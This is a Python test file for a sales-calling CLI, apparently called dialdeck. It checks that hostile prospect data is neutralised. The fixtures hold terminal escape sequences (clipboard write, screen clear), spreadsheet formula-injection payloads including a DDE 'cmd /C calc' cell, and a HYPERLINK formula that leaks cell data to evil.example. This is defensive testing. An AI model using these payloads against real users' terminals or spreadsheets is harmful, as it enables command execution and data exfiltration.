"""Hostile prospect data through the installed command: nothing in it drives the rep's terminal
or a spreadsheet, the store and the JSON keep it exact, and the rejects file is written safely."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import threading
from contextlib import closing
from pathlib import Path

import pytest

from dialdeck import importer

IMPORT_AT = "2026-11-23T08:00:00-05:00"
DUE_AT = "2026-11-23T10:00:00-05:00"
HEADER = ["First Name", "Last Name", "Company Name", "Phone Number", "E-mail", "Time Zone",
          "Lead Temperature", "Deal Value", "Cadence", "Notes"]
CLIPBOARD = "Eve\x1b]52;c;aGVsbG8=\x1b\\"  # OSC 52: write 'hello' to the clipboard
CLEAR = "Tear\x1b[2J\x1b[H"  # clear the screen, cursor home
HOSTILE_ROWS = [
    # The values decide the calling order: the clipboard name first.
    [CLIPBOARD, "Four", "Clip\x9b31m", "+1 212 555 0104", "d@x.example", "America/New_York", "warm", "5000",
     "zero-to-ten", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"],
    [CLEAR, "Five", "Screen\u202eevil", "+1 212 555 0105", "e@x.example", "America/New_York", "warm", "4000",
     "zero-to-ten", "+cmd|' /C calc'!A0"],
    ["Smith [Jr]", "Three", "@SUM(1+1)", "+1 212 555 0103", "c@x.example", "America/New_York", "warm", "3000",
     "zero-to-ten", "-2+3"],
]
# A terminal acts on these; none may reach stdout or stderr raw.
RAW_CONTROLS = ("\x1b", "\x9b", "\u202e", "\x07")


def dialdeck(*args: str, db: Path | None = None, cwd: Path | None = None, stdin=None,
             input: str | None = None) -> subprocess.CompletedProcess:
    argv = [sys.executable, "-m", "dialdeck", *(["--db", str(db)] if db else []), *args]
    return subprocess.run(argv, capture_output=True, text=True, timeout=120, cwd=cwd, stdin=stdin, input=input,
                          env={**os.environ, "DIALDECK_CADENCES": "/nonexistent-user-cadences"})


def write_rows(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    return path


def assert_no_raw_control(result: subprocess.CompletedProcess) -> None:
    for stream in (result.stdout, result.stderr):
        for char in RAW_CONTROLS:
            assert char not in stream, f"{char!r} reached the terminal: {stream!r}"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "rep.db"
    source = write_rows(folder / "hostile.csv", HOSTILE_ROWS)
    result = dialdeck("import", str(source), "--at", IMPORT_AT, db=path)
    assert result.returncode == 0, result.stderr
    return path


def prospect_ids(db: Path) -> dict[str, int]:
    with closing(sqlite3.connect(db)) as conn:
        return {first: pid for pid, first in conn.execute("SELECT id, first_name FROM prospects")}


# --------------------------------------------------------------------------- the terminal


def test_due_shows_escape_sequences_as_visible_text(hostile_db: Path) -> None:
    result = dialdeck("due", "--at", DUE_AT, db=hostile_db)
    assert result.returncode == 0, result.stderr
    assert_no_raw_control(result)
    lines = result.stdout.splitlines()
    # Sanitized before the name column is cut at 22: the cut falls after a whole stand-in.
    assert any("  Eve␛]52;c;aGVsbG8=␛\\ …  " in line for line in lines[1:4]), lines
    assert any("Tear␛[2J␛[H Five" in line for line in lines)
    assert any("Screen\\u202eevil" in line and "Clip\\u009b31m" not in line for line in lines)
    # Columns stay aligned: the phone starts at the same place on every row.
    starts = {line.index("+1212555010") for line in lines[1:4]}
    assert len(starts) == 1, result.stdout


def test_due_json_keeps_the_raw_values_escaped_as_json(hostile_db: Path) -> None:
    result = dialdeck("due", "--json", "--at", DUE_AT, db=hostile_db)
    assert result.returncode == 0, result.stderr
    assert_no_raw_control(result)
    items = json.loads(result.stdout)
    assert {item["name"] for item in items} == {f"{CLIPBOARD} Four", f"{CLEAR} Five", "Smith [Jr] Three"}
    assert {item["company"] for item in items} == {"Clip\x9b31m", "Screen\u202eevil", "@SUM(1+1)"}


def test_history_shows_the_name_visibly_and_its_json_keeps_it(hostile_db: Path) -> None:
    pid = prospect_ids(hostile_db)[CLIPBOARD]
    shown = dialdeck("history", str(pid), db=hostile_db)
    assert shown.returncode == 0, shown.stderr
    assert_no_raw_control(shown)
    assert shown.stdout.startswith("Eve␛]52;c;aGVsbG8=␛\\ Four (#")
    data = json.loads(dialdeck("history", str(pid), "--json", db=hostile_db).stdout)
    assert data["prospect"]["first_name"] == CLIPBOARD


def test_every_line_a_command_prints_shows_control_characters(hostile_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "rep.db"
    with closing(sqlite3.connect(hostile_db)) as source, closing(sqlite3.connect(db)) as copy:
        source.backup(copy)
    pid = str(prospect_ids(db)[CLIPBOARD])
    for args in (("note", pid, "called \x1b[2J back"), ("log", pid, "busy", "--at", DUE_AT),
                 ("snooze", pid, "+2h", "--at", DUE_AT), ("undo",)):
        result = dialdeck(*args, db=db)
        assert result.returncode == 0, (args, result.stderr)
        assert_no_raw_control(result)
        assert "Eve␛]52;c;aGVsbG8=␛\\ Four (#" in result.stdout, (args, result.stdout)
    # An error message quoting what was typed: a file name.
    result = dialdeck("import", str(tmp_path / "leads\x1b]52;c;aGk=\x07.csv"), db=db)
    assert result.returncode == 1
    assert_no_raw_control(result)
    assert "leads␛]52;c;aGk=␇.csv" in result.stderr


def test_the_store_keeps_the_raw_value(hostile_db: Path) -> None:
    with closing(sqlite3.connect(hostile_db)) as conn:
        names = {row[0] for row in conn.execute("SELECT first_name FROM prospects")}
    assert {CLIPBOARD, CLEAR} <= names


# --------------------------------------------------------------------------- spreadsheets


def export_csv(db: Path) -> list[dict[str, str]]:
    result = dialdeck("export", "--format", "csv", db=db)
    assert result.returncode == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_export_csv_guards_every_cell_a_spreadsheet_would_run(hostile_db: Path) -> None:
    rows = {row["last_name"]: row for row in export_csv(hostile_db)}
    assert rows["Four"]["notes"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert rows["Five"]["notes"] == "'+cmd|' /C calc'!A0"
    assert rows["Three"]["notes"] == "'-2+3"
    assert rows["Three"]["company"] == "'@SUM(1+1)"
    assert rows["Three"]["phone"] == "'+12125550103"  # a '+' phone is calculated by Excel too
    assert rows["Three"]["phone_raw"] == "'+1 212 555 0103"
    assert rows["Three"]["value"] == "3000.0"  # a number dialdeck wrote stays a number
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_export_csv_into_a_pipe_keeps_control_characters_as_data(hostile_db: Path) -> None:
    """A pipe or a file gets the data as stored; only a terminal gets it made visible."""
    rows = {row["last_name"]: row for row in export_csv(hostile_db)}
    assert rows["Four"]["first_name"] == CLIPBOARD


def test_an_export_imports_back_as_it_was(hostile_db: Path, tmp_path: Path) -> None:
    exported = tmp_path / "export.csv"
    result = dialdeck("export", "--format", "csv", "--output", str(exported), db=hostile_db)
    assert result.returncode == 0, result.stderr
    again = tmp_path / "again.db"
    result = dialdeck("import", str(exported), "--at", IMPORT_AT, db=again)
    assert result.returncode == 0, result.stderr
    query = "SELECT first_name, company, phone_e164, notes FROM prospects ORDER BY phone_e164"
    with closing(sqlite3.connect(hostile_db)) as before, closing(sqlite3.connect(again)) as after:
        assert after.execute(query).fetchall() == before.execute(query).fetchall()


def test_a_guarded_phone_from_a_spreadsheet_imports_as_the_phone(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "leads.csv", [
        ["Ana", "Souza", "'@Home", "'+1 212 555 0101", "", "America/New_York", "warm", "", "zero-to-ten", "'-2+3"]])
    db = tmp_path / "rep.db"
    assert dialdeck("import", str(source), "--at", IMPORT_AT, db=db).returncode == 0
    with closing(sqlite3.connect(db)) as conn:
        row = conn.execute("SELECT phone_e164, company, notes FROM prospects").fetchone()
    assert row == ("+12125550101", "@Home", "-2+3")


BAD_ROW = ["=1+1", "@cmd", "+cmd|' /C calc'!A0", "not a phone", "", "America/New_York", "warm", "-2+3",
           "zero-to-ten", "\t=1+1"]
GOOD_ROW = ["Ana", "Souza", "Northwind", "+1 212 555 0101", "", "America/New_York", "warm", "", "zero-to-ten", ""]


def test_the_rejects_file_guards_formulas_and_reads_back_as_the_original(tmp_path: Path) -> None:
    source = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW])
    result = dialdeck("import", str(source), "--skip-invalid", "--at", IMPORT_AT, db=tmp_path / "rep.db")
    assert result.returncode == 0, result.stderr
    rejects = tmp_path / "leads.rejected.csv"
    written = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
    assert written[1][:10] == ["'=1+1", "'@cmd", "'+cmd|' /C calc'!A0", "not a phone", "", "America/New_York",
                               "warm", "'-2+3", "zero-to-ten", "'\t=1+1"]
    # Read back by dialdeck's own importer (a rejects file is fixed and imported again).
    parsed = importer.read_prospects(rejects, default_region="US", rep_zone="America/New_York")
    assert [parsed.errors[0].raw[name] for name in HEADER] == BAD_ROW


# --------------------------------------------------------------------------- the rejects file


def imported_names(db: Path) -> list[str]:
    with closing(sqlite3.connect(db)) as conn:
        return [row[0] for row in conn.execute("SELECT first_name FROM prospects ORDER BY id")]


def test_the_rejects_file_never_writes_through_a_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (tmp_path / "leads.rejected.csv").symlink_to(victim)
    source = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW])
    result = dialdeck("import", str(source), "--skip-invalid", "--at", IMPORT_AT, db=tmp_path / "rep.db")
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "precious\n"
    rejects = tmp_path / "leads.rejected.csv"
    assert not rejects.is_symlink() and "not a phone" in rejects.read_text()


def test_importing_stdin_writes_the_rejects_file_in_the_current_directory(tmp_path: Path) -> None:
    text = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW]).read_text()
    work = tmp_path / "work"
    work.mkdir()
    result = dialdeck("import", "/dev/stdin", "--skip-invalid", "--at", IMPORT_AT, db=tmp_path / "rep.db",
                      cwd=work, input=text)
    assert result.returncode == 0, result.stderr
    assert f"rejected rows, with reasons: {work / 'stdin.rejected.csv'}" in result.stdout
    assert "not a phone" in (work / "stdin.rejected.csv").read_text()
    assert imported_names(tmp_path / "rep.db") == ["Ana"]


def test_stdin_redirected_from_a_file_is_still_not_a_folder_to_write_in(tmp_path: Path) -> None:
    """/dev/stdin is a regular file when the shell redirects one into it; its folder is /dev."""
    source = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW])
    with source.open() as handle:
        result = dialdeck("import", "/dev/stdin", "--skip-invalid", "--at", IMPORT_AT, db=tmp_path / "rep.db",
                          cwd=tmp_path, stdin=handle)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "stdin.rejected.csv").is_file()
    assert not Path("/dev/stdin.rejected.csv").exists()


def test_a_fifo_gets_its_rejects_file_in_the_current_directory(tmp_path: Path) -> None:
    folder = tmp_path / "feeds"
    folder.mkdir()
    fifo = folder / "feed.csv"
    os.mkfifo(fifo)
    text = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW]).read_text()

    def feed() -> None:
        with fifo.open("w") as handle:
            handle.write(text)

    writer = threading.Thread(target=feed)
    writer.start()
    result = dialdeck("import", str(fifo), "--skip-invalid", "--at", IMPORT_AT, db=tmp_path / "rep.db", cwd=tmp_path)
    writer.join(timeout=30)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "feed.rejected.csv").is_file()
    assert sorted(p.name for p in folder.iterdir()) == ["feed.csv"]


def test_an_unwritable_rejects_file_is_reported_with_what_was_committed(tmp_path: Path) -> None:
    (tmp_path / "leads.rejected.csv").mkdir()  # in the way, even for root
    source = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW])
    db = tmp_path / "rep.db"
    result = dialdeck("import", str(source), "--skip-invalid", "--at", IMPORT_AT, db=db)
    assert result.returncode == 3, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert "1 created, 0 updated, 1 enrolled, 0 skipped (do-not-call), 1 rejected" in result.stdout
    errors = [line for line in result.stderr.splitlines() if line.startswith("dialdeck: error:")]
    assert len(errors) == 1
    assert "could not write the rejected rows to" in errors[0] and "leads.rejected.csv" in errors[0]
    assert "the import itself is saved (1 created, 0 updated)" in errors[0]
    assert "line 3: phone: not a phone number ('not a phone')" in result.stderr  # the row is not lost
    assert imported_names(db) == ["Ana"]


def test_an_unwritable_rejects_file_in_json(tmp_path: Path) -> None:
    (tmp_path / "leads.rejected.csv").mkdir()
    source = write_rows(tmp_path / "leads.csv", [GOOD_ROW, BAD_ROW])
    result = dialdeck("import", str(source), "--skip-invalid", "--json", "--at", IMPORT_AT, db=tmp_path / "rep.db")
    assert result.returncode == 3, result.stderr
    report = json.loads(result.stdout)
    assert (report["created"], report["rejected"], report["rejected_file"]) == (1, 1, None)
    assert "leads.rejected.csv" in report["rejects_error"]
    assert report["unsaved_rejects"] == ["line 3: phone: not a phone number ('not a phone')",
                                         "line 3: value: negative amount ('-2+3')"]


def run_in_a_terminal(*args: str, db: Path) -> str:
    """What the command writes when its stdout is a terminal (a pseudo-terminal here)."""
    import pty

    leader, follower = pty.openpty()
    try:
        argv = [sys.executable, "-m", "dialdeck", "--db", str(db), *args]
        process = subprocess.Popen(argv, stdout=follower, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
                                   env={**os.environ, "DIALDECK_CADENCES": "/nonexistent-user-cadences"})
        os.close(follower)
        follower = -1
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the command closed its side
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert process.wait(timeout=60) == 0
    finally:
        os.close(leader)
        if follower != -1:
            os.close(follower)
    return b"".join(chunks).decode("utf-8")


def test_export_csv_onto_a_terminal_is_shown_safely(hostile_db: Path) -> None:
    shown = run_in_a_terminal("export", "--format", "csv", db=hostile_db)
    assert "Eve␛]52;c;aGVsbG8=␛\\" in shown
    for char in RAW_CONTROLS:
        assert char not in shown
